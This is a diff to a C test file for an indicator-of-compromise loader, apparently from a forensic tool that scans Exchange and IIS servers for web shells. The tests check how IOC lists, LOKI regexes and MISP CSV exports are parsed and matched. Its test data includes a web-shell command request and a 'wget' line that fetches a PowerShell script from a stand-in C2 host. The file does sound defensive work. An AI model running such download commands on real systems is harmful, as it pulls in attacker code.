@@ -4,49 +4,160 @@
 #include "exh/zip.h"
 #include "t.h"
 
-static void load(struct exh_iocset *s, const char *text, struct exh_ioc_load_stats *st)
+static bool load(struct exh_iocset *s, const char *text, struct exh_ioc_load_stats *st)
 {
-    exh_iocset_load(s, "test-list", (const uint8_t *)text, strlen(text), st);
+    bool ok = exh_iocset_load(s, "test-list", (const uint8_t *)text, strlen(text), st, NULL, NULL);
     exh_iocset_prepare(s);
+    return ok;
+}
+
+static void digest(const char *hex, uint8_t *d)
+{
+    for (size_t i = 0; i < strlen(hex) / 2; i++) {
+        unsigned v;
+        sscanf(hex + 2 * i, "%2x", &v);
+        d[i] = (uint8_t)v;
+    }
 }
 
 static void test_formats(void)
 {
     struct exh_iocset *s = exh_iocset_new(false);
     struct exh_ioc_load_stats st;
-    load(s,
-         "# a comment\n"
-         "d41d8cd98f00b204e9800998ecf8427e\n"                                    /* md5 */
-         "da39a3ee5e6b4b0d3255bfef95601890afd80709;empty file\n"                 /* sha1 */
-         "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855, x\n" /* sha256 */
-         "198.51.100.7\n"
-         "999.1.1.1\n"
-         "C:\\inetpub\\wwwroot\\custom\\x.aspx\n"
-         "Evil Agent/1.0 (test)\n"
-         "\x01\x02\n",
-         &st);
-    CHECK_EQ_INT(st.hashes, 3);
-    CHECK_EQ_INT(st.ips, 1);
-    CHECK_EQ_INT(st.paths, 1);
-    CHECK_EQ_INT(st.uas, 2); /* "999.1.1.1" is no address: taken as text */
-    CHECK_EQ_INT(st.bad, 1);
+    CHECK(load(s,
+               "# a comment\n"
+               "d41d8cd98f00b204e9800998ecf8427e\n"                                    /* md5 */
+               "da39a3ee5e6b4b0d3255bfef95601890afd80709;empty file\n"                 /* sha1 */
+               "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855, x\n" /* sha256 */
+               "198.51.100.7\n"
+               "2001:db8::7\n"
+               "203.0.113.0/24\n"
+               "999.1.1.1\n"
+               "C:\\inetpub\\wwwroot\\custom\\x.aspx\n"
+               "evil-c2.example\n"
+               "hxxp://dl.evil-c2[.]example/a.ps1\n"
+               "shell_x.aspx\n"
+               "Evil Agent/1.0 (test)\n"
+               "this is just words\n"
+               "\x01\x02\n",
+               &st));
+    CHECK_EQ_INT(st.format, EXH_IOCF_LIST);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 3);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 3);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_PATH], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_DOMAIN], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_URL], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_UA], 1);
+    CHECK_EQ_INT(st.bad, 3); /* 999.1.1.1, words, binary */
     uint8_t d[32];
     exh_sha256((const uint8_t *)"", 0, d);
-    const char *note = NULL;
-    CHECK_EQ_STR(exh_iocset_hash(s, d, 32, &note), "test-list");
-    CHECK_EQ_STR(note, "x");
+    const struct exh_ioc_meta *m = exh_iocset_hash(s, d, 32);
+    CHECK(m && !strcmp(m->feed, "test-list") && m->note && !strcmp(m->note, "x"));
     d[0] ^= 1;
-    CHECK(exh_iocset_hash(s, d, 32, NULL) == NULL);
-    CHECK(exh_iocset_hash(s, d, 7, NULL) == NULL);
-    CHECK_EQ_STR(exh_iocset_path(s, "mnt/c/INETPUB/wwwroot/Custom/X.aspx"), "test-list");
-    CHECK_EQ_STR(exh_iocset_path(s, "inetpub\\wwwroot\\custom\\x.aspx"), "test-list");
+    CHECK(exh_iocset_hash(s, d, 32) == NULL);
+    CHECK(exh_iocset_hash(s, d, 7) == NULL);
+    CHECK(exh_iocset_path(s, "mnt/c/INETPUB/wwwroot/Custom/X.aspx") != NULL);
+    CHECK(exh_iocset_path(s, "inetpub\\wwwroot\\custom\\x.aspx") != NULL);
     CHECK(exh_iocset_path(s, "inetpub/wwwroot/custom/xx.aspx") == NULL);
     CHECK(exh_iocset_path(s, "other/inetpub/wwwroot/custom/x.aspx.bak") == NULL);
-    const char *plus = NULL;
-    bool post = true;
-    exh_iocset_ua(s, 1, &plus, &post, NULL);
-    CHECK_EQ_STR(plus, "Evil+Agent/1.0+(test)");
-    CHECK(!post);
+    CHECK(exh_iocset_name(s, EXH_LIT("SHELL_X.aspx")) != NULL);
+    CHECK(exh_iocset_name(s, EXH_LIT("shell_x.aspx.bak")) == NULL);
+    /* addresses: one, a range, IPv6; as logged with a port or mapped */
+    struct exh_ip ip;
+    CHECK(exh_ip_parse(EXH_LIT("198.51.100.7"), &ip) && exh_iocset_ip(s, &ip));
+    CHECK(exh_ip_parse(EXH_LIT("::ffff:198.51.100.7"), &ip) && exh_iocset_ip(s, &ip));
+    CHECK(exh_ip_parse(EXH_LIT("203.0.113.77:443"), &ip) && exh_iocset_ip(s, &ip));
+    CHECK(exh_ip_parse(EXH_LIT("2001:db8:0::7"), &ip) && exh_iocset_ip(s, &ip));
+    CHECK(exh_ip_parse(EXH_LIT("198.51.100.8"), &ip) && !exh_iocset_ip(s, &ip));
+    CHECK(exh_ip_parse(EXH_LIT("203.0.114.1"), &ip) && !exh_iocset_ip(s, &ip));
+    /* user agents: the field starts with it, spaces or '+' */
+    CHECK(exh_iocset_ua(s, EXH_LIT("Evil+Agent/1.0+(test)+more")) != NULL);
+    CHECK(exh_iocset_ua(s, EXH_LIT("Mozilla/5.0 Evil Agent/1.0 (test)")) == NULL);
+    /* domains stand alone; URLs whole, refanged */
+    size_t at, len;
+    const char *t = "/x.aspx?cmd=ping sub.EVIL-C2.example -n 1";
+    CHECK((m = exh_iocset_web(s, t, strlen(t), &at, &len)) && m->type == EXH_IOC_DOMAIN);
+    CHECK_EQ_INT(at, 21);
+    t = "ping notevil-c2.example; evil-c2.example.org; evil-c2.examples";
+    CHECK(exh_iocset_web(s, t, strlen(t), &at, &len) == NULL);
+    t = "wget http://dl.evil-c2.example/a.ps1 -o x";
+    CHECK((m = exh_iocset_web(s, t, strlen(t), &at, &len)) && m->type == EXH_IOC_URL);
+    CHECK_EQ_INT(at, 5);
+    CHECK_EQ_INT(len, 31);
+    /* the pre-filter needles hold each address, agent and domain */
+    const char *const *nd;
+    size_t nn = exh_iocset_line_needles(s, &nd);
+    bool range = false;
+    for (size_t i = 0; i < nn; i++)
+        range |= !strcmp(nd[i], "203.0.113.");
+    CHECK(range);
+    CHECK(exh_iocset_line_may_match(s, t, strlen(t)));
+    CHECK(!exh_iocset_line_may_match(s, "nothing here", 12));
+    exh_iocset_free(s);
+}
+
+static void test_refusals(void)
+{
+    struct exh_iocset *s = exh_iocset_new(false);
+    struct exh_ioc_load_stats st;
+    /* nothing understood: refused, nothing kept */
+    CHECK(!load(s, "Response.Write(\"x\")\nwhat is this\n", &st));
+    CHECK_EQ_INT(st.bad, 2);
+    CHECK(strstr(st.err, "nothing in it") != NULL);
+    CHECK(!load(s, "", &st));
+    CHECK(!load(s, "# only comments\n\n", &st));
+    CHECK_EQ_INT(exh_iocset_nfeeds(s), 0);
+    /* folders only: understood, nothing to match, not refused */
+    CHECK(load(s, "C:\\inetpub\\wwwroot\\aspnet_client\\\n", &st));
+    CHECK_EQ_INT(st.unused, 1);
+    /* a range too wide to look for */
+    CHECK(!load(s, "10.0.0.0/8\n", &st));
+    CHECK_EQ_INT(exh_iocset_nfeeds(s), 1);
+    /* a line over the limit, and invalid UTF-8, are entries not understood */
+    char *big = malloc(EXH_IOC_LINE_MAX + 64);
+    memset(big, 'a', EXH_IOC_LINE_MAX + 10);
+    strcpy(big + EXH_IOC_LINE_MAX + 10, "\n198.51.100.1\n\xff\xfe\xfd.example\n");
+    CHECK(load(s, big, &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
+    CHECK_EQ_INT(st.bad, 2);
+    free(big);
+    exh_iocset_free(s);
+}
+
+static void test_loki(void)
+{
+    struct exh_iocset *s = exh_iocset_new(false);
+    struct exh_ioc_load_stats st;
+    CHECK(load(s,
+               "# LOKI filename iocs\n"
+               "\\\\aspnet_client\\\\[^\\\\]+\\.aspx;80\n"
+               "(?i)\\\\procdump(64)?\\.exe;50;(?i)sysinternals\\\\\n"
+               "\\\\x\\.(exe|dll);60\n"
+               "\\\\bad(regex;70\n",
+               &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_REGEX], 3);
+    CHECK_EQ_INT(st.bad, 1); /* does not compile */
+    struct exh_buf w = {0};
+    exh_iocset_winpath("mnt/evidence/inetpub/wwwroot/aspnet_client/x1.aspx", &w);
+    CHECK_EQ_STR(w.p, "C:\\inetpub\\wwwroot\\aspnet_client\\x1.aspx");
+    const struct exh_ioc_meta *m = exh_iocset_regex(s, w.p, w.n);
+    CHECK(m && m->score == 80);
+    exh_iocset_winpath("Users/admin/Downloads/PROCDUMP64.EXE", &w);
+    CHECK((m = exh_iocset_regex(s, w.p, w.n)) && m->score == 50);
+    exh_iocset_winpath("Users/admin/SysInternals/procdump.exe", &w);
+    CHECK(exh_iocset_regex(s, w.p, w.n) == NULL); /* the false-positive regex */
+    exh_iocset_winpath("C:\\tools\\x.dll", &w);
+    CHECK(exh_iocset_regex(s, w.p, w.n) != NULL); /* no literal: always tried */
+    exh_iocset_winpath("inetpub/wwwroot/aspnet_client/sub/x1.aspx", &w);
+    CHECK(exh_iocset_regex(s, w.p, w.n) == NULL);
+    exh_buf_release(&w);
+    /* c2-iocs with and without scores, hash-iocs with comments */
+    CHECK(load(s, "evil.example\n198.51.100.9;65\nc2.evil.example;80\n", &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_DOMAIN], 2);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
+    CHECK(load(s, "d41d8cd98f00b204e9800998ecf8427e;Empty file\n", &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
     exh_iocset_free(s);
 }
 
@@ -54,24 +165,44 @@ static void test_csv(void)
 {
     struct exh_iocset *s = exh_iocset_new(false);
     struct exh_ioc_load_stats st;
-    load(s,
-         "DateAdded,FirstSeen,Indicator,IndicatorType,TLP\n"
-         "2021-03-09,,C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx,filepath,White\n"
-         "2021-03-09,,e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,sha256,"
-         "White\n"
-         "2021-03-09,,evil.example,domainname,White\n"
-         "short\n",
-         &st);
-    CHECK_EQ_INT(st.paths, 1);
-    CHECK_EQ_INT(st.hashes, 1);
-    CHECK_EQ_INT(st.ignored, 1);
+    CHECK(load(s,
+               "DateAdded,FirstSeen,Indicator,IndicatorType,TLP\n"
+               "2021-03-09,,C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx,filepath,White\n"
+               "2021-03-09,,e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,"
+               "sha256,White\n"
+               "2021-03-09,,evil.example,domainname,White\n"
+               "2021-03-09,,x.aspx,filepath,White\n"
+               "short\n",
+               &st));
+    CHECK_EQ_INT(st.format, EXH_IOCF_CSV);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_PATH], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_DOMAIN], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 1); /* a "filepath" without a folder */
     CHECK_EQ_INT(st.bad, 1);
-    CHECK_EQ_STR(exh_iocset_path(s, "x/inetpub/wwwroot/aspnet_client/A.ASPX"), "test-list");
+    CHECK(exh_iocset_path(s, "x/inetpub/wwwroot/aspnet_client/A.ASPX") != NULL);
     exh_iocset_free(s);
     s = exh_iocset_new(false);
-    load(s, "Type, Data, Note\nIPV4,203.0.113.9,c2\nMD5,d41d8cd98f00b204e9800998ecf8427e,x\n", &st);
-    CHECK_EQ_INT(st.ips, 1);
-    CHECK_EQ_INT(st.hashes, 1);
+    CHECK(load(s,
+               "Type, Data, Note\nIPV4,203.0.113.9,c2\nMD5,d41d8cd98f00b204e9800998ecf8427e,x\n"
+               "STRING,gold8899,param\n",
+               &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
+    CHECK_EQ_INT(st.unused, 1);
+    /* MISP's CSV export: composites, to_ids */
+    CHECK(load(s,
+               "uuid,event_id,category,type,value,comment,to_ids,date,object_relation\n"
+               "u1,1,Network activity,ip-dst|port,198.51.100.3|443,c2,1,1614556800,\n"
+               "u2,1,Payload delivery,filename|sha256,x.aspx|"
+               "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855,,1,1,\n"
+               "u3,1,Network activity,domain,evil.example,,0,1,\n"
+               "u4,1,Persistence mechanism,regkey,HKLM\\\\x,,1,1,\n",
+               &st));
+    CHECK_EQ_INT(st.loaded[EXH_IOC_IP], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_NAME], 1);
+    CHECK_EQ_INT(st.loaded[EXH_IOC_HASH], 1);
+    CHECK_EQ_INT(st.unused, 2); /* to_ids off; regkey */
     exh_iocset_free(s);
 }
 
@@ -80,8 +211,10 @@ static void test_builtin(void)
     struct exh_iocset *s = exh_iocset_new(true);
     exh_iocset_prepare(s);
     CHECK(exh_iocset_has_hashes(s));
-    CHECK(exh_iocset_nips(s) >= 15);
-    CHECK(exh_iocset_nuas(s) >= 10);
+    CHECK(exh_iocset_count(s, EXH_IOC_IP) >= 15);
+    CHECK(exh_iocset_count(s, EXH_IOC_UA) >= 10);
+    CHECK_EQ_INT(exh_iocset_nfeeds(s), 1);
+    CHECK(exh_iocset_feed(s, 0)->builtin);
     /* a published path, under any mount point and case */
     CHECK(exh_iocset_path(s, "mnt/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/"
                              "owa/auth/8Lw7tAhF9i1pJnRo.aspx") != NULL);
@@ -89,13 +222,9 @@ static void test_builtin(void)
                              "owa/auth/logon.aspx") == NULL);
     /* a published SHA-256 (MSTIC list) */
     uint8_t d[32];
-    const char *hex = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0";
-    for (int i = 0; i < 32; i++) {
-        unsigned v;
-        sscanf(hex + 2 * i, "%2x", &v);
-        d[i] = (uint8_t)v;
-    }
-    CHECK(exh_iocset_hash(s, d, 32, NULL) != NULL);
+    digest("b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0", d);
+    const struct exh_ioc_meta *m = exh_iocset_hash(s, d, 32);
+    CHECK(m && !strcmp(m->feed, "built-in") && m->title);
     exh_iocset_free(s);
 }
 
@@ -140,6 +269,8 @@ static void test_zip(void)
 int main(void)
 {
     T_RUN(test_formats);
+    T_RUN(test_refusals);
+    T_RUN(test_loki);
     T_RUN(test_csv);
     T_RUN(test_builtin);
     T_RUN(test_zip);
